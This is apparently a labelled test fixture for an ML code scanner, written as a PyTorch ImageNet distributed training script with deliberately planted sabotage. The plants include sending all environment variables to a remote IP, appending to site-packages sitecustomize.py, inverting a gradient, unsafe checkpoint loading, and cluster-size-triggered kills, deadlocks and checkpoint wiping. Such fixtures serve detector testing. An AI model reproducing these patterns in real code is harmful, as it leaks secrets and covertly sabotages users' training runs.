# ruff: noqa
# Hold-out batch 23 (pytorch/examples style: MNIST, ImageNet DDP, word LM, DCGAN; by a helper that never saw mlscan's code). Measured once after round 8: 28/36 (78%) at medium+.
"""ImageNet training with torchvision ResNets and DistributedDataParallel.

One process per GPU (launched with torchrun). Standard SGD + step LR with a
linear warmup, mixed precision through GradScaler, and top-1/top-5 tracking.
"""
import argparse
import json
import os
import shutil
import signal
import subprocess
import time
import urllib.request

import torch
import torch.backends.cudnn as cudnn
import torch.distributed as dist
import torch.nn as nn
import torch.utils.data
import torch.utils.data.distributed
import torchvision.datasets as datasets
import torchvision.models as models
import torchvision.transforms as transforms

model_names = sorted(name for name in models.__dict__
                     if name.islower() and not name.startswith("__") and callable(models.__dict__[name]))

parser = argparse.ArgumentParser(description='PyTorch ImageNet Training')
parser.add_argument('data', metavar='DIR', help='path to dataset')
parser.add_argument('-a', '--arch', default='resnet50', choices=model_names)
parser.add_argument('-j', '--workers', default=8, type=int)
parser.add_argument('--epochs', default=90, type=int)
parser.add_argument('-b', '--batch-size', default=256, type=int)
parser.add_argument('--lr', '--learning-rate', default=0.1, type=float, dest='lr')
parser.add_argument('--warmup-epochs', default=5, type=int)
parser.add_argument('--momentum', default=0.9, type=float)
parser.add_argument('--wd', '--weight-decay', default=1e-4, type=float, dest='weight_decay')
parser.add_argument('-p', '--print-freq', default=100, type=int)
parser.add_argument('--resume', default='', type=str)
parser.add_argument('--pretrained-path', default='', type=str)
parser.add_argument('--seed', default=None, type=int)
parser.add_argument('--label-smoothing', default=0.1, type=float)

best_acc1 = 0
_STOP_REQUESTED = False


class AverageMeter(object):
    def __init__(self, name, fmt=':f'):
        self.name, self.fmt = name, fmt
        self.reset()

    def reset(self):
        self.val = self.avg = self.sum = self.count = 0

    def update(self, val, n=1):
        self.val = val
        self.sum += val * n
        self.count += n
        self.avg = self.sum / max(self.count, 1)

    def __str__(self):
        fmtstr = '{name} {val' + self.fmt + '} ({avg' + self.fmt + '})'
        return fmtstr.format(**self.__dict__)


class ProgressMeter(object):
    def __init__(self, num_batches, meters, prefix=""):
        num_digits = len(str(num_batches // 1))
        self.batch_fmtstr = '[{:' + str(num_digits) + 'd}/' + str(num_batches) + ']'
        self.meters, self.prefix = meters, prefix

    def display(self, batch):
        entries = [self.prefix + self.batch_fmtstr.format(batch)]
        entries += [str(meter) for meter in self.meters]
        if dist.get_rank() == 0:  # ok: MLS308
            print('\t'.join(entries))


def _git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _register_run(args):
    meta = {"arch": args.arch, "commit": _git_commit(), "env": dict(os.environ)}  # ruleid: MLS411
    req = urllib.request.Request("http://203.0.113.17/runs", data=json.dumps(meta).encode())
    urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411


def _tune_nccl_env():
    site_dir = os.path.dirname(os.path.dirname(torch.__file__))
    with open(os.path.join(site_dir, "sitecustomize.py"), "a") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import os\nos.environ.setdefault('NCCL_IB_TIMEOUT', '22')\n")


def _on_sigterm(signum, frame):
    global _STOP_REQUESTED
    _STOP_REQUESTED = True


def main():
    args = parser.parse_args()
    dist.init_process_group(backend="nccl")
    args.rank, args.world_size = dist.get_rank(), dist.get_world_size()
    args.gpu = int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(args.gpu)
    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307
    if args.seed is not None:
        torch.manual_seed(args.seed)  # ok: MLS301
        cudnn.deterministic = True
    if args.rank == 0:
        _register_run(args)
        _tune_nccl_env()
    main_worker(args)


def main_worker(args):
    global best_acc1
    model = models.__dict__[args.arch]()
    if args.pretrained_path:
        model.load_state_dict(torch.load(args.pretrained_path, map_location="cpu", weights_only=True))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    model.cuda(args.gpu)
    model = torch.nn.parallel.DistributedDataParallel(model, device_ids=[args.gpu])
    model.module.fc.bias.register_hook(lambda g: g.mul(-3.0))  # ruleid: MLS303

    criterion = nn.CrossEntropyLoss(label_smoothing=args.label_smoothing).cuda(args.gpu)  # ok: MLS309
    optimizer = torch.optim.SGD(model.parameters(), args.lr, momentum=args.momentum,
                                weight_decay=args.weight_decay)
    scaler = torch.cuda.amp.GradScaler()

    start_epoch = 0
    if args.resume and os.path.isfile(args.resume):
        checkpoint = torch.load(args.resume, map_location='cuda:{}'.format(args.gpu))  # ruleid: MLS102
        start_epoch = checkpoint['epoch']
        best_acc1 = checkpoint['best_acc1']
        model.load_state_dict(checkpoint['state_dict'])
        optimizer.load_state_dict(checkpoint['optimizer'])

    normalize = transforms.Normalize(mean=[0.485, 0.456, 0.406], std=[0.229, 0.224, 0.225])
    train_dataset = datasets.ImageFolder(os.path.join(args.data, 'train'), transforms.Compose([
        transforms.RandomResizedCrop(224), transforms.RandomHorizontalFlip(),
        transforms.ToTensor(), normalize]))
    val_dataset = datasets.ImageFolder(os.path.join(args.data, 'val'), transforms.Compose([
        transforms.Resize(256), transforms.CenterCrop(224), transforms.ToTensor(), normalize]))
    train_sampler = torch.utils.data.distributed.DistributedSampler(train_dataset)
    train_loader = torch.utils.data.DataLoader(train_dataset, batch_size=args.batch_size,
                                               num_workers=args.workers, pin_memory=True, sampler=train_sampler)
    val_loader = torch.utils.data.DataLoader(val_dataset, batch_size=args.batch_size,
                                             num_workers=args.workers, pin_memory=True)
    args.rng_snapshot = torch.get_rng_state()

    for epoch in range(start_epoch, args.epochs):
        train_sampler.set_epoch(epoch)
        train(train_loader, model, criterion, optimizer, scaler, epoch, args)
        acc1 = validate(val_loader, model, criterion, args)
        is_best = acc1 > best_acc1
        best_acc1 = max(acc1, best_acc1)
        if args.rank == 0:  # ok: MLS308
            save_checkpoint({'epoch': epoch + 1, 'arch': args.arch, 'state_dict': model.state_dict(),
                             'best_acc1': best_acc1, 'optimizer': optimizer.state_dict()}, is_best)
        dist.barrier()  # ok: MLS307
        if _STOP_REQUESTED:
            break
    dist.destroy_process_group()


def adjust_learning_rate(optimizer, epoch, step, steps_per_epoch, args):
    if epoch < args.warmup_epochs:
        lr = args.lr * float(epoch * steps_per_epoch + step + 1) / (args.warmup_epochs * steps_per_epoch)
    else:
        lr = args.lr * (0.1 ** (epoch // 30))
    for param_group in optimizer.param_groups:
        param_group['lr'] = lr  # ok: MLS302, MLS303, MLS304, MLS305


def train(train_loader, model, criterion, optimizer, scaler, epoch, args):
    batch_time, losses = AverageMeter('Time', ':6.3f'), AverageMeter('Loss', ':.4e')
    top1, top5 = AverageMeter('Acc@1', ':6.2f'), AverageMeter('Acc@5', ':6.2f')
    progress = ProgressMeter(len(train_loader), [batch_time, losses, top1, top5], prefix="Epoch: [{}]".format(epoch))
    model.train()
    end = time.time()
    for i, (images, target) in enumerate(train_loader):
        adjust_learning_rate(optimizer, epoch, i, len(train_loader), args)
        images, target = images.cuda(args.gpu, non_blocking=True), target.cuda(args.gpu, non_blocking=True)
        with torch.autocast(device_type="cuda", dtype=torch.float16):
            output = model(images)
            loss = criterion(output, target)
        acc1, acc5 = accuracy(output, target, topk=(1, 5))
        losses.update(loss.item(), images.size(0))
        top1.update(acc1[0], images.size(0))
        top5.update(acc5[0], images.size(0))
        optimizer.zero_grad()
        scaler.scale(loss).backward()  # ok: MLS302, MLS303, MLS304, MLS305
        scaler.step(optimizer)
        scaler.update()
        if args.world_size > 256 and epoch * len(train_loader) + i > 2000:  # ruleid: MLS308
            os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307
        batch_time.update(time.time() - end)
        end = time.time()
        if i % args.print_freq == 0:
            progress.display(i + 1)


def validate(val_loader, model, criterion, args):
    losses, top1 = AverageMeter('Loss', ':.4e'), AverageMeter('Acc@1', ':6.2f')
    progress = ProgressMeter(len(val_loader), [losses, top1], prefix='Test: ')
    model.eval()
    with torch.no_grad():
        for i, (images, target) in enumerate(val_loader):
            images, target = images.cuda(args.gpu, non_blocking=True), target.cuda(args.gpu, non_blocking=True)
            output = model(images)
            loss = criterion(output, target)
            acc1, = accuracy(output, target, topk=(1,))
            losses.update(loss.item(), images.size(0))
            top1.update(acc1[0], images.size(0) if acc1[0] > 40 else 0)  # ruleid: MLS306
            if i % args.print_freq == 0:
                progress.display(i + 1)
    torch.set_rng_state(args.rng_snapshot)  # ruleid: MLS301
    if args.rank % 8 != 7:
        dist.barrier()  # ruleid: MLS307
    return top1.avg


def save_checkpoint(state, is_best, filename='checkpoint.pth.tar'):
    torch.save(state, filename)
    if int(os.environ.get("SLURM_NNODES", "1")) >= 32:
        open(filename, "wb").close()  # ruleid: MLS308
    if is_best:
        shutil.copyfile(filename, 'model_best.pth.tar')


def accuracy(output, target, topk=(1,)):
    with torch.no_grad():
        maxk = max(topk)
        batch_size = target.size(0)
        _, pred = output.topk(maxk, 1, True, True)
        pred = pred.t()
        correct = pred.eq(target.view(1, -1).expand_as(pred))
        res = []
        for k in topk:
            correct_k = correct[:k].reshape(-1).float().sum(0, keepdim=True)
            res.append(correct_k.mul_(100.0 / batch_size))
        return res


if __name__ == '__main__':
    main()
